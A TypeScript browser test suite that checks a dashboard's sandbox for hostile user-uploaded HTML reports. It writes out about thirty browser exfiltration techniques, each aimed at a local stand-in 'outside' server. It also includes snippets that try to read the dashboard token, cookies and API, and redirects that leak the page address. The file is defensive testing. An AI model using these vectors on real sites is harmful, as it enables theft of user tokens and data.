import { api } from "@gantry/contract/api.ts";
import { once } from "node:events";
import { createServer, request } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, expect } from "vitest";
import type { DashboardStack } from "./dashboard-stack.ts";
import { describeInBrowser, test as base } from "./in-browser.ts";
import { type Member, takeRun } from "./member.ts";

const test = base.override("emptyCache", true);

/** A machine that a report's author owns: notes everything that reaches it. */
const outside = { requests: [] as string[], url: "" };
const listener = createServer((asked, answer) => {
  outside.requests.push(`${asked.method} ${asked.url}`);
  answer.setHeader("access-control-allow-origin", "*").end("outside");
});
listener.on("upgrade", (asked, socket) => {
  outside.requests.push(`UPGRADE ${asked.url}`);
  socket.destroy();
});
beforeAll(async () => {
  listener.listen(0, "127.0.0.1");
  await once(listener, "listening");
  outside.url = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
});
afterAll(() => void listener.close());

/** Each is tried by the report's script; what it throws does not matter. */
const attacks = {
  fetch: "await fetch(out + 'fetch?' + location.href, { mode: 'no-cors' })",
  "fetch that outlives the page": "await fetch(out + 'keepalive', { mode: 'no-cors', keepalive: true })",
  XMLHttpRequest: "const x = new XMLHttpRequest(); x.open('GET', out + 'xhr'); x.send()",
  beacon: "navigator.sendBeacon(out + 'beacon', location.href)",
  WebSocket: "new WebSocket(out.replace('http', 'ws') + 'socket')",
  EventSource: "new EventSource(out + 'events')",
  image: "new Image().src = out + 'image'",
  script: "add('script', { src: out + 'script.js' })",
  module: "await import(out + 'module.js')",
  stylesheet: "add('link', { rel: 'stylesheet', href: out + 'style.css' })",
  "import in a style": "add('style', { textContent: `@import url(${out}import.css); body { background: url(${out}background) }` })",
  font: "add('style', { textContent: `@font-face { font-family: f; src: url(${out}font) } * { font-family: f }` })",
  frame: "add('iframe', { src: out + 'frame' })",
  "frame with a document": "add('iframe', { srcdoc: `<img src=${out}srcdoc><script>fetch('${out}srcdoc-script')</scr` + `ipt>` })",
  object: "add('object', { data: out + 'object' }); add('embed', { src: out + 'embed' })",
  video: "add('video', { src: out + 'video', preload: 'auto' }); add('audio', { src: out + 'audio', preload: 'auto' })",
  "form that is sent by script": "const f = add('form', { action: out + 'form', method: 'post' }); f.submit()",
  window: "window.open(out + 'window')",
  prefetch: "add('link', { rel: 'prefetch', href: out + 'prefetch' })",
  prerender: "add('link', { rel: 'prerender', href: out + 'prerender' })",
  preload:
    "add('link', { rel: 'preload', as: 'image', href: out + 'preload' }); add('link', { rel: 'modulepreload', href: out + 'modulepreload' })",
  "speculation rules":
    "add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [out + 'speculation'] }] }) })",
  icon: "add('link', { rel: 'icon', href: out + 'icon' })",
  manifest: "add('link', { rel: 'manifest', href: out + 'manifest' })",
  ping: "const a = add('a', { href: '#x', ping: out + 'ping', textContent: 'x' }); a.click()",
  worker: "new Worker(URL.createObjectURL(new Blob([`importScripts('${out}worker.js'); fetch('${out}worker-fetch')`])))",
  "picture in a picture": "add('div', { innerHTML: `<svg><image href='${out}svg' /><use href='${out}use#x' /></svg>` })",
  "base address": "add('base', { href: out }); add('img', { src: 'base-image' })",
  "reporting endpoint":
    "add('meta', { httpEquiv: 'Content-Security-Policy', content: `img-src 'none'; report-uri ${out}report` }); new Image().src = 'x.png'",
  "peer connection":
    "const p = new RTCPeerConnection({ iceServers: [{ urls: `stun:${new URL(out).host}` }] }); p.createDataChannel('x'); await p.setLocalDescription()",
} as const;

/** What the sandbox has to keep from the page: each ends in an error, or in nothing. */
const reads = {
  "the dashboard's token": "localStorage.getItem('gantry.token')",
  cookies: "document.cookie",
  databases: "indexedDB.open('x') && 'opened'",
  caches: "await caches.open('x') && 'opened'",
  "a service worker": "await navigator.serviceWorker.register('sw.js') && 'registered'",
  "the page that opened it": "window.opener && String(window.opener.location)",
  "the API": "await (await fetch('/api/executions')).text()",
  "the API without reading": "await fetch('/api/executions', { mode: 'no-cors' }) && 'sent'",
  "another run's report": "await (await fetch(location.pathname.replace(/\\/~.*/, '/'), { mode: 'no-cors' })) && 'sent'",
} as const;

const attackPage =
  () => `<!doctype html><title>Report</title><link rel="stylesheet" href="own.css"><body><p id="own">not loaded</p><p id="reads"></p>
<script>
const out = ${JSON.stringify(`${outside.url}/`)};
const add = (name, fields) => document.body.appendChild(Object.assign(document.createElement(name), fields));
const wait = (work) => Promise.race([work, new Promise((end) => setTimeout(end, 400))]);
(async () => {
  const own = document.getElementById("own");
  const data = await (await fetch("data/own.json")).json();
  const picture = await new Promise((end) => { const i = new Image(); i.onload = () => end("picture"); i.onerror = () => end("no picture"); i.src = "own.svg"; });
  const inline = await new Promise((end) => { const i = new Image(); i.onload = () => end("data"); i.onerror = () => end("no data"); i.src = "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' width='1' height='1'/>"; });
  own.textContent = [data.own, picture, inline, getComputedStyle(document.body).color, eval("1 + 1")].join(" ");
  const seen = {};
  ${Object.entries(reads)
    .map(
      ([name, code]) =>
        `try { seen[${JSON.stringify(name)}] = await wait((async () => (${code}))()) || "nothing"; } catch { seen[${JSON.stringify(name)}] = "nothing"; }`,
    )
    .join("\n  ")}
  document.getElementById("reads").textContent = JSON.stringify(seen);
  ${Object.values(attacks)
    .map((code) => `try { await wait((async () => { ${code} })()); } catch {}`)
    .join("\n  ")}
  document.title = "Tried";
})();
</script>`;

const ownFiles = {
  "own.css": "body { color: rgb(1, 2, 3) }",
  "own.svg": `<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>`,
  "data/own.json": `{"own":"own file"}`,
};

/** A run whose report holds these files; answers with a link to its index page. */
async function linkTo({ worker }: DashboardStack, { person, start }: Member, files: Readonly<Record<string, string>>): Promise<string> {
  const id = await start();
  const run = await takeRun(worker, id);
  await worker.leave(run, { ...ownFiles, ...files });
  await worker.finish(run, { exitCode: 0 });
  const linked = async () => (await person.request(api.executions.reportLink, { params: { id } })).body.data?.url as string | undefined;
  await expect.poll(linked).toBeDefined();
  return (await linked()) ?? "";
}

/** What a machine gets that knows the address and pretends to be the same browser. */
function replay(address: string, from: string, userAgent: string): Promise<number | undefined> {
  return new Promise((resolve, reject) => {
    const headers = { "user-agent": userAgent, accept: "text/html" };
    request(address, { localAddress: from, headers }, (answer) => {
      answer.resume();
      resolve(answer.statusCode);
    })
      .on("error", reject)
      .end();
  });
}

describeInBrowser("a report whose author is hostile", () => {
  test(`loads its own files, and ${Object.keys(attacks).length} ways to reach another machine end in nothing`, async ({
    stack,
    member,
    browser,
  }) => {
    const person = await member();
    const url = await linkTo(stack, person, { "index.html": attackPage() });
    const context = await browser.launched.newContext({ baseURL: browser.origin, serviceWorkers: "allow" });
    await context.addInitScript(
      `if (location.pathname === "/") localStorage.setItem("gantry.token", ${JSON.stringify(person.person.token)}); document.cookie = "own=1";`,
    );
    const page = await context.newPage();
    await page.goto("/");
    await page.goto(url);
    await page.waitForFunction("document.title === 'Tried'");
    expect(await page.locator("#own").innerText()).toBe("own file picture data rgb(1, 2, 3) 2");
    expect(JSON.parse(await page.locator("#reads").innerText())).toEqual(
      Object.fromEntries(Object.keys(reads).map((name) => [name, "nothing"])),
    );
    await page.mouse.move(50, 50);
    await context.close();
    expect(outside.requests).toEqual([]);
  });

  test.for([
    ["by script", `<script>location.href = OUT + "?" + encodeURIComponent(location.href)</script>`],
    [
      "by a meta element",
      `<script>document.write('<meta http-equiv="refresh" content="0;url=' + OUT + "?" + encodeURIComponent(location.href) + '">')</script>`,
    ],
  ])(
    "that sends its tab and its own address elsewhere %s gives away nothing that is of use there",
    async ([, leave = ""], { stack, member, browser }) => {
      const url = await linkTo(stack, await member(), {
        "index.html": `<!doctype html>${leave.replaceAll("OUT", JSON.stringify(`${outside.url}/gone`))}`,
      });
      const context = await browser.launched.newContext({ baseURL: browser.origin });
      const page = await context.newPage();
      await page.goto(url).catch(() => undefined);
      await page.waitForURL(`${outside.url}/**`);
      const leaked = decodeURIComponent(new URL(page.url()).search.slice(1));
      expect(leaked).toContain("/~");
      expect(leaked).not.toContain(url);
      const userAgent = await page.evaluate<string>("navigator.userAgent");
      await context.close();
      outside.requests.length = 0;
      expect(await replay(leaked, "127.0.0.1", userAgent)).toBe(200);
      expect(await replay(leaked, "127.9.9.9", userAgent)).toBe(401);
      expect(await replay(leaked, "127.0.0.1", "curl/8.0")).toBe(401);
    },
  );
});
